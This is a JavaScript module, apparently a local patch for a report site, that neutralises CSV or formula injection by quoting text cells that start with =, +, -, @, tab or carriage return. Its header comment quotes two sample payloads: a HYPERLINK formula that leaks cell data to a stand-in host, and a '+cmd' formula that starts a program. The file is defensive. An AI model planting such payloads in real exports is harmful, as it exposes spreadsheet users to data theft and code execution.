// @evidence-offline-patch: not upstream. Installed as @evidence-dev/universal-sql src/spreadsheet-safe.js by
// pipelines/site/evidence-offline/apply.mjs; build-parquet.js (also installed by it) imports it. Do not edit the
// copy in node_modules; edit this file and run `node pipelines/site/evidence-offline/apply.mjs`.
//
// Why: every table of the report site has a Download button that writes the table, as it is, into a CSV that
// leadership opens in Excel or WPS. A text cell starting with =, +, -, @, a tab or a carriage return runs there as
// a formula (OWASP "CSV injection": `=HYPERLINK("http://x?leak="&A1,"Click")` sends the sheet's data away when
// clicked, `+cmd|' /C calc'!A0` starts a program). So the site's data files hold such text with a leading single
// quote, as OWASP advises: the spreadsheet then shows the text instead of running it. Doing it where the data
// files are written covers every text column of every published table, whoever writes the next source query.
// The same rule (with the same characters) is the contract's for identifiers and the templates writer's for free
// text: pipelines/shared/contracts/column-spec.ts and pipelines/extract/template-files.ts.

/** The characters a spreadsheet reads as the start of a formula (OWASP's list). */
export const FORMULA_TRIGGERS = Object.freeze(["=", "+", "-", "@", "\t", "\r"]);

/** A number written as text (`-12.5`, `+1.5e3`): a spreadsheet reads it as that number, never as a formula. */
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/**
 * A value as the site's data files hold it: text starting like a formula (also behind quotes) gets a leading single
 * quote; every other value (other text, numbers, dates, booleans, null) is returned as it is.
 * @template T
 * @param {T} value
 * @returns {T | string}
 */
export function spreadsheetSafe(value) {
  if (typeof value !== "string") return value;
  const afterQuotes = value.replace(/^'+/, "");
  const formula = FORMULA_TRIGGERS.some((trigger) => afterQuotes.startsWith(trigger));
  return formula && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}
